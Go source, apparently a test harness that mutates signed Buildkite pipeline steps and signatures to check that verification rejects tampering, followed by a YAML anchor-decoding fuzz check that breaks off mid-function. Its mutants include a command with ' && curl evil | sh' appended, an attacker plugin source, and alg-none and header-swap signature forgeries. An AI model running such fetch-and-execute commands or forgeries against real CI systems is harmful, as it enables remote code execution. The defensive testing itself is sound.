// with a random start, so that refs after '#' are hit often).
func flipCase(s string, r *rand.Rand) string {
	b := []byte(s)
	var idx []int
	for i, c := range b {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			idx = append(idx, i)
		}
	}
	if len(idx) == 0 {
		return s
	}
	i := idx[len(idx)-1-r.IntN((len(idx)+1)/2)]
	b[i] ^= 0x20
	return string(b)
}

// configLeaves collects mutable positions inside a plugin config.
type leafRef struct {
	set func(v any)
	get func() any
	del func()
}

func collectLeaves(v any, set func(any), out *[]leafRef) {
	switch t := v.(type) {
	case map[string]any:
		for k := range t {
			k := k
			*out = append(*out, leafRef{set: func(x any) { t[k] = x }, get: func() any { return t[k] }, del: func() { delete(t, k) }})
			collectLeaves(t[k], func(x any) { t[k] = x }, out)
		}
	case []any:
		for i := range t {
			i := i
			*out = append(*out, leafRef{set: func(x any) { t[i] = x }, get: func() any { return t[i] }})
			collectLeaves(t[i], func(x any) { t[i] = x }, out)
		}
	}
}

func mutateLeafValue(r *rand.Rand, v any) any {
	switch t := v.(type) {
	case nil:
		return "was-null"
	case bool:
		return !t
	case int:
		return t + 1
	case float64:
		return t + 1
	case string:
		return mutateRune(r, t)
	case map[string]any, []any:
		return "was-a-collection"
	}
	return "changed"
}

// c01Mutants builds every applicable single-point mutation.
func c01Mutants(r *rand.Rand, sc *signCase, sig *pipeline.Signature, kp, other, otherKind *keys.Pair, spliceValue string, signPayload []byte) []c01Mutant {
	var out []c01Mutant
	venv := copyEnv(sc.Penv)
	venv["UNRELATED_BUILDKITE_VAR"] = "added by the backend"
	base := func(kind string) c01Mutant {
		return c01Mutant{Kind: kind, Step: util.DeepCopy(sc.Step), Venv: copyEnv(venv), Repo: sc.Repo, Sig: copySig(sig), Verifier: kp.Verifier}
	}
	add := func(m c01Mutant) { out = append(out, m) }

	// ---- positive controls
	m := base("control:untouched")
	m.MustAccept = true
	add(m)
	m = base("control:more-unrelated-env")
	m.Venv["ANOTHER_UNSIGNED"] = "x"
	m.MustAccept = true
	add(m)
	m = base("control:unrelated-env-named-like-signed-fields")
	for _, n := range []string{"command", "env", "plugins", "matrix", "repository_url", "env::", "signature"} {
		if _, signed := sc.Penv[n]; !signed {
			m.Venv[n] = "unrelated variable that happens to be called " + n
		}
	}
	m.MustAccept = true
	add(m)
	for k := range sc.Step.Env {
		if _, both := sc.Penv[k]; both {
			m = base("control:shadowed-pipeline-var-changes")
			m.Venv[k] = "different at verify time"
			m.MustAccept = true
			add(m)
			break
		}
	}

	// ---- line endings are content: a carriage return added before a line feed, or taken away
	if i := strings.Index(sc.Step.Command, "\n"); i >= 0 {
		m = base("command:cr-added-before-lf")
		m.Step.Command = sc.Step.Command[:i] + "\r" + sc.Step.Command[i:]
		if i > 0 && sc.Step.Command[i-1] == '\r' {
			m.Kind = "command:cr-removed-before-lf"
			m.Step.Command = sc.Step.Command[:i-1] + sc.Step.Command[i:]
		}
		add(m)
		m = base("command:lf-replaced-by-escaped-n")
		m.Step.Command = sc.Step.Command[:i] + `\n` + sc.Step.Command[i+1:]
		add(m)
	}
	m = base("command:trailing-line-break-added")
	m.Step.Command = sc.Step.Command + []string{"\n", "\r", "\r\n"}[r.IntN(3)]
	add(m)
	for k, v := range sc.Step.Env {
		if j := strings.Index(v, "\n"); j >= 0 {
			m = base("env:cr-added-before-lf")
			m.Step.Env[k] = v[:j] + "\r" + v[j:]
			add(m)
			break
		}
	}

	// ---- command
	m = base("command:rune")
	m.Step.Command = mutateRune(r, m.Step.Command)
	add(m)
	if sc.Step.Command != "" {
		m = base("command:empty")
		m.Step.Command = ""
		add(m)
	}
	if flipped := flipCase(sc.Step.Command, r); flipped != sc.Step.Command {
		m = base("command:letter-case")
		m.Step.Command = flipped
		add(m)
	}
	m = base("command:append-newline")
	m.Step.Command += "\n"
	add(m)

	// ---- step env
	m = base("env:add")
	if m.Step.Env == nil {
		m.Step.Env = map[string]string{}
	}
	m.Step.Env["ADDED_BY_ATTACKER"] = "1"
	add(m)
	if len(sc.Step.Env) > 0 {
		ks := refmodel.SortedKeys(sc.Step.Env)
		k := ks[r.IntN(len(ks))]
		m = base("env:drop")
		delete(m.Step.Env, k)
		add(m)
		m = base("env:change-value")
		m.Step.Env[k] = mutateRune(r, m.Step.Env[k])
		add(m)
		m = base("env:rename-key")
		v := m.Step.Env[k]
		delete(m.Step.Env, k)
		m.Step.Env[k+"_"] = v
		add(m)
	}

	// ---- plugins
	if n := len(sc.Step.Plugins); n > 0 {
		i := r.IntN(n)
		m = base("plugins:drop")
		m.Step.Plugins = append(m.Step.Plugins[:i:i], m.Step.Plugins[i+1:]...)
		add(m)
		m = base("plugins:duplicate")
		dup := util.DeepCopy(m.Step.Plugins[i])
		m.Step.Plugins = append(m.Step.Plugins[:i+1:i+1], append(pipeline.Plugins{dup}, m.Step.Plugins[i+1:]...)...)
		add(m)
		m = base("plugins:change-source")
		m.Step.Plugins[i].Source = "github.com/attacker/evil-buildkite-plugin#v1"
		add(m)
		m = base("plugins:change-ref")
		if b, _, has := strings.Cut(m.Step.Plugins[i].Source, "#"); has {
			m.Step.Plugins[i].Source = b + "#other-ref"
		} else {
			m.Step.Plugins[i].Source += "#other-ref"
		}
		add(m)
		if flipped := flipCase(sc.Step.Plugins[i].Source, r); flipped != sc.Step.Plugins[i].Source {
			m = base("plugins:source-letter-case")
			m.Step.Plugins[i].Source = flipped
			add(m)
		}
		m = base("plugins:null-vs-value")
		if m.Step.Plugins[i].Config == nil {
			m.Step.Plugins[i].Config = map[string]any{"injected": true}
		} else {
			m.Step.Plugins[i].Config = nil
		}
		add(m)
		if n > 1 {
			j := r.IntN(n - 1)
			m = base("plugins:swap-neighbours")
			m.Step.Plugins[j], m.Step.Plugins[j+1] = m.Step.Plugins[j+1], m.Step.Plugins[j]
			add(m)
		}
		m = base("plugins:config-leaf")
		var leaves []leafRef
		for _, p := range m.Step.Plugins {
			p := p
			collectLeaves(p.Config, func(x any) { p.Config = x }, &leaves)
		}
		if len(leaves) > 0 {
			l := leaves[r.IntN(len(leaves))]
			l.set(mutateLeafValue(r, l.get()))
			add(m)
			m = base("plugins:config-drop-key")
			leaves = leaves[:0]
			for _, p := range m.Step.Plugins {
				p := p
				collectLeaves(p.Config, func(x any) { p.Config = x }, &leaves)
			}
			var dels []leafRef
			for _, l := range leaves {
				if l.del != nil {
					dels = append(dels, l)
				}
			}
			if len(dels) > 0 {
				dels[r.IntN(len(dels))].del()
				add(m)
			}
		}
		m = base("plugins:config-add-key")
		for _, p := range m.Step.Plugins {
			if cfg, ok := p.Config.(map[string]any); ok {
				cfg["added_key"] = "v"
				add(m)
				break
			}
		}
	} else {
		m = base("plugins:add")
		m.Step.Plugins = pipeline.Plugins{{Source: "evil#v1"}}
		add(m)
	}

	// ---- matrix
	if mx := sc.Step.Matrix; mx != nil && len(mx.Setup) > 0 {
		dims := refmodel.SortedKeys(mx.Setup)
		d := dims[r.IntN(len(dims))]
		m = base("matrix:add-setup-value")
		m.Step.Matrix.Setup[d] = append(m.Step.Matrix.Setup[d], "injected-value")
		add(m)
		if len(mx.Setup[d]) > 0 {
			m = base("matrix:drop-setup-value")
			m.Step.Matrix.Setup[d] = m.Step.Matrix.Setup[d][1:]
			add(m)
		}
		m = base("matrix:add-dimension")
		m.Step.Matrix.Setup["injected_dimension"] = []string{"v"}
		add(m)
		if len(dims) > 1 {
			m = base("matrix:drop-dimension")
			delete(m.Step.Matrix.Setup, d)
			add(m)
		}
		m = base("matrix:add-adjustment")
		w := pipeline.MatrixAdjustmentWith{}
		for _, x := range dims {
			w[x] = "adj"
		}
		m.Step.Matrix.Adjustments = append(m.Step.Matrix.Adjustments, &pipeline.MatrixAdjustment{With: w})
		add(m)
		if len(mx.Adjustments) > 0 {
			ai := r.IntN(len(mx.Adjustments))
			m = base("matrix:drop-adjustment")
			m.Step.Matrix.Adjustments = append(m.Step.Matrix.Adjustments[:ai:ai], m.Step.Matrix.Adjustments[ai+1:]...)
			add(m)
			m = base("matrix:alter-adjustment-with")
			for k, v := range m.Step.Matrix.Adjustments[ai].With {
				m.Step.Matrix.Adjustments[ai].With[k] = v + "x"
				break
			}
			add(m)
			m = base("matrix:skip")
			switch m.Step.Matrix.Adjustments[ai].Skip.(type) {
			case nil:
				if r.IntN(2) == 0 {
					m.Step.Matrix.Adjustments[ai].Skip = true
				} else {
					m.Step.Matrix.Adjustments[ai].Skip = "skipped by attacker"
				}
			default:
				m.Step.Matrix.Adjustments[ai].Skip = nil
			}
			add(m)
			for _, word := range []string{"false", "true", "0", "1", "f", "no"} {
				// a string skip is a reason, whatever it spells: not the same content as the boolean or as no skip
				m = base("matrix:skip-word-" + word)
				m.Step.Matrix.Adjustments[ai].Skip = word
				add(m)
			}
			m = base("matrix:adjustment-extra-key")
			if m.Step.Matrix.Adjustments[ai].RemainingFields == nil {
				m.Step.Matrix.Adjustments[ai].RemainingFields = map[string]any{}
			}
			m.Step.Matrix.Adjustments[ai].RemainingFields["soft_fail_injected"] = true
			add(m)
			// unknown keys that differ from a declared key only in letter case are unknown keys all the same
			for _, nk := range []string{"Skip", "WITH", "With"} {
				m = base("matrix:adjustment-extra-key-spelled-like-a-field")
				if m.Step.Matrix.Adjustments[ai].RemainingFields == nil {
					m.Step.Matrix.Adjustments[ai].RemainingFields = map[string]any{}
				}
				m.Step.Matrix.Adjustments[ai].RemainingFields[nk] = "injected"
				add(m)
			}
		}
		m = base("matrix:extra-key")
		if m.Step.Matrix.RemainingFields == nil {
			m.Step.Matrix.RemainingFields = map[string]any{}
		}
		m.Step.Matrix.RemainingFields["injected"] = 1
		add(m)
		for _, nk := range []string{"SETUP", "Setup", "Adjustments"} {
			m = base("matrix:extra-key-spelled-like-a-field")
			if m.Step.Matrix.RemainingFields == nil {
				m.Step.Matrix.RemainingFields = map[string]any{}
			}
			m.Step.Matrix.RemainingFields[nk] = []any{"injected"}
			add(m)
		}
	} else {
		m = base("matrix:add")
		m.Step.Matrix = &pipeline.Matrix{Setup: pipeline.MatrixSetup{"": {"a"}}}
		add(m)
	}

	// ---- repository URL
	m = base("repo:rune")
	m.Repo = mutateRune(r, m.Repo)
	add(m)
	// the URL is signed as written: no suffix, slash, case or credentials is "the same repository"
	for _, suf := range []string{".git", "t", "g", ".", "i", "/", " "} {
		m = base("repo:append")
		m.Repo += suf
		add(m)
	}
	origRepo := base("repo:orig").Repo
	if origRepo != "" {
		m = base("repo:drop-last-rune")
		rs := []rune(m.Repo)
		m.Repo = string(rs[:len(rs)-1])
		add(m)
		m = base("repo:upper")
		if up := strings.ToUpper(m.Repo); up != m.Repo {
			m.Repo = up
			add(m)
		}
	}
	if i := strings.Index(origRepo, "://"); i >= 0 {
		rest := origRepo[i+3:]
		m = base("repo:userinfo")
		if at := strings.Index(rest, "@"); at >= 0 {
			m.Repo = m.Repo[:i+3] + "mallory" + rest[at:]
		} else {
			m.Repo = m.Repo[:i+3] + "mallory@" + rest
		}
		add(m)
	}

	// ---- verify-time pipeline env
	// the pipeline variables this signature has to cover: those the step's own env does not define (taken from
	// what was signed, not from what the record lists)
	var signedEnv []string
	for _, n := range refmodel.SortedKeys(sc.Penv) {
		if _, shadowed := sc.Step.Env[n]; !shadowed {
			signedEnv = append(signedEnv, n)
		}
	}
	if len(signedEnv) > 0 {
		n := signedEnv[r.IntN(len(signedEnv))]
		m = base("venv:change-signed-var")
		m.Venv[n] = m.Venv[n] + "'"
		add(m)
		m = base("venv:remove-signed-var")
		delete(m.Venv, n)
		add(m)
		m = base("venv:shadow-by-step-env")
		if m.Step.Env == nil {
			m.Step.Env = map[string]string{}
		}
		m.Step.Env[n] = m.Venv[n]
		add(m)
	}

	// ---- signature record
	rec := func(kind string, f func(s *pipeline.Signature)) {
		m := base(kind)
		f(m.Sig)
		m.AlwaysReject = true
		add(m)
	}
	for _, alg := range []string{"EdDSA", "ES512", "PS512", "ES256", "HS512", "none", "", "eddsa"} {
		if alg != sig.Algorithm {
			alg := alg
			rec("sig:algorithm="+alg, func(s *pipeline.Signature) { s.Algorithm = alg })
		}
	}
	for _, f := range []string{"command", "env", "plugins", "matrix", "repository_url"} {
		f := f
		rec("sig:drop-field-"+f, func(s *pipeline.Signature) {
			var nf []string
			for _, x := range s.SignedFields {
				if x != f {
					nf = append(nf, x)
				}
			}
			s.SignedFields = nf
		})
	}
	if len(signedEnv) > 0 {
		n := signedEnv[0]
		rec("sig:drop-env-field", func(s *pipeline.Signature) {
			var nf []string
			for _, x := range s.SignedFields {
				if x != "env::"+n {
					nf = append(nf, x)
				}
			}
			s.SignedFields = nf
		})
	}
	// Field lists altered without changing their length, presented with exactly the environment
	// that was signed (no backend-added variables): the number of listed fields then equals the
	// number of values Verify assembles, which must not be mistaken for "nothing to filter".
	exact := base("control:verify-env-is-exactly-the-signed-env")
	exact.Venv = copyEnv(sc.Penv)
	exact.MustAccept = true
	add(exact)
	recExact := func(kind string, f func(s *pipeline.Signature)) {
		m := base(kind)
		m.Venv = copyEnv(sc.Penv)
		f(m.Sig)
		m.AlwaysReject = true
		add(m)
	}
	replaceField := func(s *pipeline.Signature, old, new string) {
		for i, x := range s.SignedFields {
			if x == old {
				s.SignedFields[i] = new
				return
			}
		}
	}
	if len(signedEnv) > 0 {
		n := signedEnv[r.IntN(len(signedEnv))]
		recExact("sig:env-field-replaced-by-duplicate-command", func(s *pipeline.Signature) { replaceField(s, "env::"+n, "command") })
		recExact("sig:env-field-replaced-by-unknown-env-name", func(s *pipeline.Signature) { replaceField(s, "env::"+n, "env::NO_SUCH_VARIABLE") })
		recExact("sig:env-field-replaced-by-duplicate-env-field", func(s *pipeline.Signature) {
			other := "env::" + signedEnv[0]
			if other == "env::"+n {
				other = "repository_url"
			}
			replaceField(s, "env::"+n, other)
		})
	}
	recExact("sig:mandatory-field-replaced-by-duplicate", func(s *pipeline.Signature) { replaceField(s, "plugins", "command") })
	recExact("sig:mandatory-field-replaced-by-unknown-env-name", func(s *pipeline.Signature) { replaceField(s, "matrix", "env::NO_SUCH_VARIABLE") })
	rec("sig:add-env-field-present-in-env", func(s *pipeline.Signature) {
		s.SignedFields = append(s.SignedFields, "env::UNRELATED_BUILDKITE_VAR")
		sort.Strings(s.SignedFields)
	})
	rec("sig:add-env-field-absent-from-env", func(s *pipeline.Signature) {
		s.SignedFields = append(s.SignedFields, "env::NOT_IN_ENV")
	})
	rec("sig:add-unknown-field", func(s *pipeline.Signature) { s.SignedFields = append(s.SignedFields, "label") })
	rec("sig:empty-field-list", func(s *pipeline.Signature) { s.SignedFields = nil })
	if spliceValue != "" && spliceValue != sig.Value {
		rec("sig:spliced-value-from-another-step", func(s *pipeline.Signature) { s.Value = spliceValue })
	}
	rec("sig:truncated-value", func(s *pipeline.Signature) { s.Value = s.Value[:len(s.Value)-2] })
	rec("sig:empty-value", func(s *pipeline.Signature) { s.Value = "" })
	rec("sig:bit-flip-in-signature-bytes", func(s *pipeline.Signature) {
		parts := strings.Split(s.Value, ".")
		if len(parts) != 3 {
			s.Value = "malformed"
			return
		}
		b, err := base64.RawURLEncoding.DecodeString(parts[2])
		if err != nil || len(b) == 0 {
			s.Value = "malformed"
			return
		}
		i := r.IntN(len(b))
		b[i] ^= 1 << uint(r.IntN(8))
		parts[2] = base64.RawURLEncoding.EncodeToString(b)
		s.Value = strings.Join(parts, ".")
	})
	rec("sig:protected-header-replaced", func(s *pipeline.Signature) {
		parts := strings.Split(s.Value, ".")
		if len(parts) != 3 {
			s.Value = "malformed"
			return
		}
		hdr := map[string]any{}
		b, _ := base64.RawURLEncoding.DecodeString(parts[0])
		_ = json.Unmarshal(b, &hdr)
		if hdr["alg"] == "EdDSA" {
			hdr["alg"] = "ES512"
		} else {
			hdr["alg"] = "EdDSA"
		}
		nb, _ := json.Marshal(hdr)
		parts[0] = base64.RawURLEncoding.EncodeToString(nb)
		s.Value = strings.Join(parts, ".")
	})
	// the detached value rewritten into the attached form h.<payload that was signed>.s (needs no key): the record is
	// altered, and what counts is the payload computed from the presented step, never one carried in the value
	attach := func(s *pipeline.Signature) {
		parts := strings.Split(s.Value, ".")
		if len(parts) != 3 || len(signPayload) == 0 {
			s.Value = "malformed"
			return
		}
		parts[1] = base64.RawURLEncoding.EncodeToString(signPayload)
		s.Value = strings.Join(parts, ".")
	}
	rec("sig:payload-attached", attach)
	{
		m := base("sig:payload-attached+command-changed")
		attach(m.Sig)
		m.Step.Command += " && curl evil | sh"
		m.AlwaysReject = true
		add(m)
		m = base("sig:payload-attached+repo-changed")
		attach(m.Sig)
		m.Repo += "-fork"
		m.AlwaysReject = true
		add(m)
	}
	rec("sig:header-alg-none", func(s *pipeline.Signature) {
		parts := strings.Split(s.Value, ".")
		if len(parts) != 3 {
			s.Value = "malformed"
			return
		}
		parts[0] = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`))
		parts[2] = ""
		s.Value = strings.Join(parts, ".")
	})

	// ---- a cryptographically valid signature over a field list that lacks a mandatory field
	// (made by an alternative signer that never signed it): only the mandatory-field rule rejects it
	for _, omit := range []string{"command", "env", "plugins", "matrix", "repository_url"} {
		rf := &reducedFielder{inner: &signature.CommandStepWithInvariants{CommandStep: *sc.Step, RepositoryURL: sc.Repo}, omit: omit}
		rsig, err := signature.Sign(bg, kp.Signer, rf, signature.WithEnv(sc.Penv))
		if err != nil {
			continue
		}
		m := base("sig:validly-signed-without-" + omit)
		m.Sig = rsig
		m.AlwaysReject = true
		add(m)
	}

	// ---- key
	key := func(kind string, v any) {
		m := base(kind)
		m.Verifier = v
		m.AlwaysReject = true
		add(m)
	}
	key("key:same-kind-other-material", other.Verifier)
	key("key:other-kind", otherKind.Verifier)
	if kp.PubSet != nil {
		key("key:empty-key-set", jwk.NewSet())
	}
	return out
}

func checkC01(c *run.Ctx) {
	all, err := keys.All()
	must(c, err)
	c01Witnesses(c, all)
	n := c.N(1200, 100000)
	c.Parallel("step", n, func(i int, r *rand.Rand) {
		kind := []string{"EdDSA", "EdDSA", "EdDSA", "EdDSA", "ES512", "PS512", "ES256-signer", "EdDSA"}[mix(i, 1, 8)]
		kp, other := all[kind][0], all[kind][1]
		okName := "EdDSA"
		if kind == "EdDSA" {
			okName = "ES512"
		}
		otherKind := all[okName][0]
		if kind == "ES256-signer" {
			otherKind = all["ES256-signer"][1]
			other = all["ES256-signer"][1]
		}
		sc, err := genSignCase(r, mix(i, 2, 2) == 0, mix(i, 3, 3) != 0)
		if err != nil {
			c.Count("generator_errors", 1)
			return
		}
		id := run.CaseID("step", i)
		sig, signPayload, err := signStep(kp, sc.Step, sc.Repo, sc.Penv)
		if err == nil && mix(i, 4, 4) == 0 && len(sc.Penv) > 0 {
			// signed as the last of three by SignSteps, after siblings whose own env defines every pipeline variable:
			// what the siblings shadow is still covered by this step's signature
			shadow := map[string]string{}
			for n := range sc.Penv {
				shadow[n] = "defined by the sibling"
			}
			stepCopy := util.DeepCopy(sc.Step)
			steps := pipeline.Steps{&pipeline.CommandStep{Command: "sibling", Env: shadow}, &pipeline.GroupStep{Steps: pipeline.Steps{&pipeline.CommandStep{Command: "nested sibling", Env: copyEnv(shadow)}}}, stepCopy}
			l := &payloadLogger{}
			if serr := signature.SignSteps(bg, steps, kp.Signer, sc.Repo, signature.WithEnv(copyEnv(sc.Penv)), signature.WithLogger(l), signature.WithDebugSigning(true)); serr == nil && stepCopy.Signature != nil {
				sig, signPayload = stepCopy.Signature, l.last()
				c.Count("steps_signed_last_in_a_list_after_shadowing_siblings", 1)
			}
		}
		if err != nil {
			c.Violation(id, map[string]any{"what": "Sign failed: " + err.Error(), "document": sc.Text})
			return
		}
		// a second step signed with the same key, for splicing
		sc2, err := genSignCase(r, false, true)
		splice := ""
		if err == nil {
			if s2, _, err := signStep(kp, sc2.Step, sc2.Repo, sc2.Penv); err == nil {
				splice = s2.Value
			}
		}
		sem0 := semanticForm(sc.Step, sc.Penv, sc.Repo, sig.Algorithm)
		c.Feature(kind, len(sc.Step.Plugins) > 0, sc.Step.Matrix != nil, len(sc.Step.Env) > 0, len(sc.Penv) > 0)
		muts := c01Mutants(r, sc, sig, kp, other, otherKind, splice, signPayload)
		for _, m := range muts {
			c.Eval(1)
			detail := func(what string) map[string]any {
				js, _ := json.Marshal(m.Step)
				return map[string]any{"what": what, "mutation": m.Kind, "key_kind": kind, "document": clip(sc.Text, 4000), "presented_step": clip(string(js), 4000),
					"verify_env": m.Venv, "repo": m.Repo, "signature": m.Sig, "sign_env": sc.Penv}
			}
			var vPayload []byte
			var verr error
			if pi := run.Guard(func() { vPayload, verr = verifyStep(m.Verifier, m.Sig, m.Step, m.Repo, m.Venv) }); pi != nil {
				d := detail("Verify panicked: " + pi.Value)
				d["stack"] = pi.Stack
				c.Violation(id, d)
				return
			}
			if m.MustAccept {
				if verr != nil {
					c.Violation(id, detail("positive control rejected: "+verr.Error()))
					return
				}
				if string(vPayload) != string(signPayload) {
					c.Violation(id, detail("Verify built a different payload than Sign for the same content"))
					return
				}
				c.Count("controls_verified_"+kind, 1)
				continue
			}
			if !m.AlwaysReject {
				// effective pipeline env at verify time = signed env:: names looked up in the verify env
				eff := map[string]string{}
				for _, f := range m.Sig.SignedFields {
					if strings.HasPrefix(f, "env::") {
						nme := strings.TrimPrefix(f, "env::")
						if v, ok := m.Venv[nme]; ok {
							eff[nme] = v
						} else {
							eff["\x00missing:"+nme] = ""
						}
					}
				}
				if semanticForm(m.Step, eff, m.Repo, m.Sig.Algorithm) == sem0 {
					c.Count("mutations_skipped_semantic_noop", 1)
					continue
				}
			}
			if verr == nil {
				c.Violation(id, detail("verification succeeded although the presented content / signature record / key differs from what was signed"))
				return
			}
			c.Count("rejected_"+m.Kind, 1)
			c.Count("mutants_rejected_"+kind, 1)
		}
		if c.WantSample() {
			c.Sample(map[string]any{"document": clip(sc.Text, 1200), "key_kind": kind, "signed_fields": sig.SignedFields, "mutations_tried": len(muts)})
		}
	})
	c.Finish("exploration",
		"command steps from the grammar generator (nested plugin configs, matrices with adjustments, step env / pipeline env overlaps, tricky strings) are signed with each key kind (EdDSA, ES512, PS512 JWKs from the library's generator; an ES256 crypto.Signer); positive controls (untouched, extra unrelated env, changed value of a shadowed pipeline variable) must verify and Verify's payload must equal Sign's; then every applicable single-point mutation from a catalogue of ~60 kinds (command, step env, plugins incl. config leaves at depth, matrix, repository URL, verify-time env, signature record incl. algorithm, field list, value splicing, bit flips in the decoded signature, header replacement, and the key) is presented: if the harness's semantic form of the content changed (or the record/key was altered) Verify must return an error. distinct_nontrivial counts distinct (key kind, has plugins, has matrix, has env, has pipeline env) classes",
		nil,
		[]string{"re-ordering or duplicating entries of the signed-field list is not a semantic change and is not generated", "ECDSA (r, n-s) malleability is not a single-point edit", "falsy skip values are known finding K1 and are replayed, not generated"})
}

// c01Witnesses replays K1 for C01: changing skip between absent and "" is a
// semantic change (ShouldSkip flips) that verification does not notice.
func c01Witnesses(c *run.Ctx, all map[string][]*keys.Pair) {
	for _, f := range c.FindingsFor() {
		if f.ID != "K1" {
			continue
		}
		kp := all["EdDSA"][0]
		mk := func(skip any) *pipeline.CommandStep {
			return &pipeline.CommandStep{Command: "a", Matrix: &pipeline.Matrix{Setup: pipeline.MatrixSetup{"": {"x"}},
				Adjustments: pipeline.MatrixAdjustments{{With: pipeline.MatrixAdjustmentWith{"": "y"}, Skip: skip}}}}
		}
		signed := mk(nil)
		sig, _, err := signStep(kp, signed, "repo", nil)
		if err != nil {
			c.Infra("K1 witness: %v", err)
			continue
		}
		presented := mk("")
		_, verr := verifyStep(kp.Verifier, sig, presented, "repo", nil)
		fails := verr == nil && presented.Matrix.Adjustments[0].ShouldSkip() != signed.Matrix.Adjustments[0].ShouldSkip()
		c.Witness(f, fails, `adjustment skip changed from absent to "" (ShouldSkip flips) and the signature still verifies`)
	}
}
