package main

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"
	"unsafe"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/go-pipeline/warning"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
	"verif/run"
)

func init() { register("C07", checkC07) }

// journal writes the input of the case a worker is about to run, so that a
// process-fatal event (stack overflow) can be attributed by the driver.
type journal struct{ dir string }

func (j journal) path(id string) string {
	return filepath.Join(j.dir, "journal-"+strings.NewReplacer("/", "_", " ", "_").Replace(id)+".txt")
}

// write records the input of a case that is about to run; done removes the
// record again, so that only in-flight cases are left if the process dies.
func (j journal) write(_ string, id, text string) {
	if j.dir == "" {
		return
	}
	_ = os.WriteFile(j.path(id), []byte("case: "+id+"\n"+text), 0o644)
}

func (j journal) done(id string) {
	if j.dir == "" {
		return
	}
	_ = os.Remove(j.path(id))
}

func (j journal) clear() {
	if j.dir == "" {
		return
	}
	ms, _ := filepath.Glob(filepath.Join(j.dir, "journal-*.txt"))
	for _, m := range ms {
		_ = os.Remove(m)
	}
}

// sharedMemory reports whether two positions of a decoded value share a map
// or a slice backing array (each alias must expand to an independent copy).
func sharedMemory(v any) string {
	seenMaps := map[*ordered.MapSA]string{}
	seenSlices := map[unsafe.Pointer]string{}
	var rec func(x any, path string) string
	rec = func(x any, path string) string {
		switch t := x.(type) {
		case *ordered.MapSA:
			if t == nil {
				return ""
			}
			if p, dup := seenMaps[t]; dup {
				return fmt.Sprintf("the mapping at %s is the same object as the one at %s", path, p)
			}
			seenMaps[t] = path
			msg := ""
			_ = t.Range(func(k string, e any) error {
				if m := rec(e, path+"."+k); m != "" {
					msg = m
					return errStop
				}
				return nil
			})
			return msg
		case []any:
			if len(t) > 0 {
				ptr := unsafe.Pointer(&t[0])
				if p, dup := seenSlices[ptr]; dup {
					return fmt.Sprintf("the sequence at %s shares its backing array with the one at %s", path, p)
				}
				seenSlices[ptr] = path
			}
			for i, e := range t {
				if m := rec(e, fmt.Sprintf("%s[%d]", path, i)); m != "" {
					return m
				}
			}
		}
		return ""
	}
	return rec(v, "$")
}

func checkC07(c *run.Ctx) {
	jr := journal{dir: os.Getenv("GPV_SCRATCH")}
	n := c.N(40000, 1500000)
	ncyc := c.N(12000, 400000)
	const budget = 10000
	runCase := func(phase string, i int, r *rand.Rand, cycles bool) {
		defer jr.done(run.CaseID(phase, i))
		o := gen.GraphOpts{Cycles: cycles, StringKeys: i%3 == 0, NoRepeatedMerge: i%3 == 0, Big: mix(i, 1, 5) == 0, MaxAnchors: []int{12, 12, 4, 30}[mix(i, 2, 4)], QuotedMergeKey: mix(i, 3, 2) == 1}
		g := gen.AnchorGraph(r, o)
		id := run.CaseID(phase, i)
		text, err := doc.ToYAML(g.Root, doc.YAMLOpts{Rng: r, Flow: []float64{0, 0.2, 0.6}[r.IntN(3)], Anchors: true})
		if err != nil {
			c.Count("render_errors", 1)
			return
		}
		want, werr := doc.ResolveMerges(g.Root, budget)
		if errors.Is(werr, doc.ErrTooLarge) {
			c.Count("dropped_expansion_over_budget", 1)
			return
		}
		if werr != nil && !errors.Is(werr, doc.ErrValueCycle) && !errors.Is(werr, doc.ErrBadKey) {
			c.Count("generator_invalid", 1)
			return
		}
		// the text must be parseable YAML at all (renderer self-check)
		var node yaml.Node
		if err := yaml.Unmarshal([]byte(text), &node); err != nil {
			c.Count("renderings_discarded_generator_invalid", 1)
			return
		}
		jr.write(fmt.Sprint(i%64), id, text)
		viol := func(what string, extra map[string]any) {
			m := map[string]any{"what": what, "document": clip(text, 8000), "expected": "error"}
			if want != nil {
				m["expected"] = clip(want.String(), 6000)
			}
			for k, v := range extra {
				m[k] = v
			}
			c.Violation(id, m)
		}
		t0 := time.Now()
		var got any
		var derr error
		if pi := run.Guard(func() { got, derr = ordered.DecodeYAML(&node) }); pi != nil {
			viol("DecodeYAML panicked: "+pi.Value, map[string]any{"stack": pi.Stack})
			return
		}
		el := time.Since(t0)
		c.Max("max_decode_micros", el.Microseconds())
		c.Eval(1)
		if el > 10*time.Second {
			// budget exceeded: confirm alone three times
			slow := 0
			for k := 0; k < 3; k++ {
				t1 := time.Now()
				_, _ = ordered.DecodeYAML(&node)
				if time.Since(t1) > 10*time.Second {
					slow++
				}
			}
			if slow == 3 {
				viol(fmt.Sprintf("decoding a graph whose expansion has fewer than %d nodes took more than 10 s of wall clock four times", budget), nil)
				return
			}
			c.Count("inconclusive_slow_once", 1)
		}
		switch {
		case werr != nil:
			kind := "value-cycle"
			if errors.Is(werr, doc.ErrBadKey) {
				kind = "mapping-as-key"
			}
			c.Count("expected_error_"+kind, 1)
			if derr == nil {
				viol("a document with a "+kind+" was accepted", map[string]any{"decoded": clip(anyToDoc(got).String(), 3000)})
				return
			}
		default:
			if derr != nil {
				what := "acyclic graph rejected: " + derr.Error()
				if g.MergeBack > 0 {
					what = "graph with only merge cycles rejected: " + derr.Error()
				}
				viol(what, nil)
				return
			}
			gd := anyToDoc(got)
			if diff := doc.Equal(want, gd, doc.EqOpts{Ordered: true}); diff != "" {
				viol("decoded content differs from the merge-rule resolver: "+diff, map[string]any{"decoded": clip(gd.String(), 6000)})
				return
			}
			if msg := sharedMemory(got); msg != "" {
				viol("two expansions share memory: "+msg, nil)
				return
			}
			c.Count("graphs_resolved_and_compared", 1)
			c.Max("max_expansion_nodes", int64(want.Size()))
			if g.MergeBack > 0 {
				c.Count("merge_cycles_tolerated", 1)
			}
			// mutate one expansion, siblings must not change
			if m, ok := got.(*ordered.MapSA); ok && m.Len() > 0 {
				before := anyToDoc(got).String()
				var first *ordered.MapSA
				_ = m.Range(func(k string, v any) error {
					if mm, ok := v.(*ordered.MapSA); ok && first == nil {
						first = mm
					}
					return nil
				})
				if first != nil {
					first.Set("\x00probe", 1)
					first.Delete("\x00probe")
